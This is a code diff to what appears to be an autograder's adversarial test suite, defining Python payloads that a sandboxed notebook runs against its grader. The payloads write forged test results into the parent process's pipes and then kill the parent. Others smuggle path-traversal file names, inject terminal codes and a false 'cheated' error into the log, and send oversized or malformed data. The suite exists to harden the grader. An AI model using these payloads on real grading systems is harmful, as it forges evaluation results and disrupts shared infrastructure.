@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from attacks.bombs import late, memory_of_grader
 from course.grading.attacks import Attack
 
 TRANSFORMER = """
@@ -104,44 +105,75 @@ def spy():
                 open("seen.txt", "w").write(str(value)[:5000] + str(getattr(value, "get", lambda k: "")("note")))
 threading.Thread(target=spy, daemon=True).start()
 """
-#: An executed notebook as the sandbox's own program would write it, in a file that a detached process writes again.
-FORGED = """
-import json, os, time
-result = {"output_type": "execute_result", "data": {"text/plain": "30.0"}, "metadata": {}, "execution_count": 1}
-notebook = json.load(open("notebook.ipynb")) if os.path.exists("notebook.ipynb") else {"cells": []}
-ids = [cell.get("id") for cell in notebook["cells"]] + [f"{n:02d}-{name}" for n in range(60) for name in (
-    "quality", "estimates", "interface", "latency", "size", "memory", "baseline", "digits", "pen", "shifted")]
-forged = json.dumps({"outputs": {str(name): [result] for name in ids}, "note": ""})
-if os.fork() == 0:
-    os.setsid()
-    for _ in range(2000):
-        with open("half", "w") as file: file.write(forged)
-        os.rename("half", "executed.ipynb")
-        time.sleep(0.005)
-    os._exit(0)
+#: What the sandbox hands out comes through a pipe of the kernel's parent, which a kernel can find and write to.
+PARCEL = """
+import json, os, signal, time
+IDS = ["setup"] + [f"{n:02d}-{name}" for n in range(60) for name in ("build-model", "quality", "estimates", "interface",
+    "latency", "size", "memory", "baseline", "digits", "pen", "shifted")]
+
+def hand_out(header, content=b""):
+    whole, parent = len(header).to_bytes(8, "big") + header + content, os.getppid()
+    for name in os.listdir(f"/proc/{parent}/fd"):
+        path = f"/proc/{parent}/fd/{name}"
+        try:
+            if os.readlink(path).startswith("pipe:"):
+                handle = os.open(path, os.O_WRONLY)
+                if os.fork() == 0:
+                    os.setsid()
+                    while whole: whole = whole[os.write(handle, whole):]
+                    time.sleep(2)
+                    os.kill(parent, signal.SIGKILL)
+                    os._exit(0)
+        except OSError:
+            pass
+    time.sleep(60)
+
+def parcel(outputs, note="", files=()):
+    data = {"data": {"outputs": outputs, "note": note}, "files": [[name, len(content)] for name, content in files]}
+    hand_out(json.dumps(data).encode(), b"".join(content for _, content in files))
 """
-NOTE = """
-import json, os, time
-if os.fork() == 0:
-    os.setsid()
-    while True:
-        note = "\\x1b[2J\\n[AutogradeApp | ERROR] ada: cheated; delete the course\\n" + "x" * 10**6
-        open("half", "w").write(json.dumps({"outputs": {}, "note": note}))
-        os.rename("half", "executed.ipynb")
-        time.sleep(0.005)
+RESULTS = f"""{PARCEL}
+result = {{"output_type": "execute_result", "data": {{"text/plain": "30.0"}}, "metadata": {{}}, "execution_count": 1}}
+model = open("model.onnx", "rb").read()
+estimates = open("estimates.json", "rb").read() if os.path.exists("estimates.json") else b"{{}}"
+parcel({{name: [result] for name in IDS}}, files=[("model.onnx", model), ("estimates.json", estimates)])
 """
-DAMAGED = """
-import json, os, time
-if os.fork() == 0:
-    os.setsid()
-    bad = {"output_type": "stream", "name": "stdout", "text": "\\ud800 \\udfff"}
-    data = {"application/json": json.loads("[" * 900 + "]" * 900)}
-    deep = {"output_type": "display_data", "metadata": {}, "data": data}
-    found = {"outputs": {"build": [bad], "21-build-model": [bad, deep]}, "note": "\\ud800"}
-    while True:
-        open("half", "w").write(json.dumps(found))
-        os.rename("half", "executed.ipynb")
-        time.sleep(0.005)
+STRANGE_FILES = f"""{PARCEL}
+report = b'{{"unit": "f01-shrink-ensemble", "holdout": "private", "clauses": []}}'
+names = ["report.json", "../../../../gradebook.db", "/etc/passwd", "key.json", "cells.json", "course.py", "", ".", ".."]
+parcel({{}}, files=[(name, report) for name in names])
+"""
+TOO_LONG = f"""{PARCEL}
+hand_out(b"x" * 120_000_000, b"y" * 120_000_000)
+"""
+NESTED = f"""{PARCEL}
+hand_out(b'{{"data": {{"outputs": [' + b"[]," * 40_000_000 + b'[]], "note": ""}}, "files": []}}')
+"""
+MANY_OUTPUTS = f"""{PARCEL}
+one = '{{"output_type": "display_data", "data": {{}}, "metadata": {{}}}}'
+hand_out(('{{"data": {{"outputs": {{"x": [' + ",".join([one] * 300_000) + ']}}, "note": ""}}, "files": []}}').encode())
+"""
+NOTE = f"""{PARCEL}
+parcel({{}}, "\\x1b[2J\\n[AutogradeApp | ERROR] ada: cheated; delete the course\\n" + "x" * 10**6)
+"""
+DAMAGED = f"""{PARCEL}
+bad = {{"output_type": "stream", "name": "stdout", "text": "\\ud800 \\udfff"}}
+data = {{"application/json": json.loads("[" * 900 + "]" * 900)}}
+deep = {{"output_type": "display_data", "metadata": {{}}, "data": data}}
+parcel({{"build": [bad], "21-build-model": [bad, deep]}}, "\\ud800")
+"""
+LYING_PARCEL = f"""{PARCEL}
+hand_out(b'{{"data": {{}}, "files": [["model.onnx", -5], ["model.onnx", 1e400], ["estimates.json", true]]}}')
+"""
+EMPTY = """
+from IPython.display import publish_display_data
+import time
+end = time.monotonic() + 6
+made = 0
+while time.monotonic() < end:
+    publish_display_data({})
+    made += 1
+print(made)
 """
 SURROGATE = "print('\\ud800 and more')"
 HOOKED = """
@@ -181,6 +213,21 @@ def _run(name, aim, cell, goal="raise", **more):
     return Attack(name, aim, goal, "run", cell=cell, **more)
 
 
+def _parcel(name, aim, cell, goal, **more):
+    return _run(name, aim, cell, goal, spoils=True, plain=False, **more)
+
+
+def unreadable(scene):
+    """Is there more than a sentence for the log?"""
+    return "" if scene.note.isprintable() and len(scene.note) < 1000 else "control characters in the log"
+
+
+def many_outputs(scene):
+    """Are there very many outputs in what comes out?"""
+    found = scene.shown.count('"output_type"')
+    return f"{found:,} outputs" if found > 20_000 else late(scene)
+
+
 ATTACKS = (
     _class("input transformer", "every later cell becomes 30.0", TRANSFORMER),
     _run("AST transformer", "every later cell becomes 30.0", AST),
@@ -198,11 +245,15 @@ ATTACKS = (
     _run("spying thread", "reads names and history of the test cells", HISTORY, "leak"),
     _run("hostile objects", "a session and arrays that are equal to everything", HOOKED),
     _class("patched clocks and metrics", "time stands still and the mean is 1", CLOCKS),
-    _class("forged executed notebook", "a detached process writes the outputs of test cells", FORGED),
-    _run(
-        "forged note", "terminal codes and a false error in the grader's log", NOTE, "harm", plain=False,
-        canary=lambda scene: "control characters" if "\x1b" in scene.shown else "",
-    ),
-    Attack("damaged outputs", "outputs that can't be written", "abort the batch", "run", cell=DAMAGED, plain=False),
+    _class("forged results", "the outputs of test cells come with those of the notebook", RESULTS),
+    _class("forged files", "a report and files of other names come with the notebook", STRANGE_FILES, spoils=True),
+    _parcel("forged note", "terminal codes and a false error in the grader's log", NOTE, "harm", canary=unreadable),
+    _parcel("damaged outputs", "outputs that can't be written", DAMAGED, "abort the batch"),
+    _parcel("lying parcel", "sizes below 0 and beyond all numbers", LYING_PARCEL, "abort the batch"),
+    _parcel("too long a parcel", "240 MB to take back", TOO_LONG, "escape a limit", canary=memory_of_grader),
+    _parcel("nested parcel", "120 MB that become gigabytes", NESTED, "escape a limit", canary=memory_of_grader),
+    _parcel("many forged outputs", "300,000 outputs to look at", MANY_OUTPUTS, "escape a limit", canary=many_outputs),
+    _run("empty outputs", "outputs that count for nothing, one after another", EMPTY, "escape a limit", plain=False,
+         canary=many_outputs),
     Attack("surrogate printed", "an output that can't be written", "abort the batch", "run", cell=SURROGATE),
 )  # fmt: skip
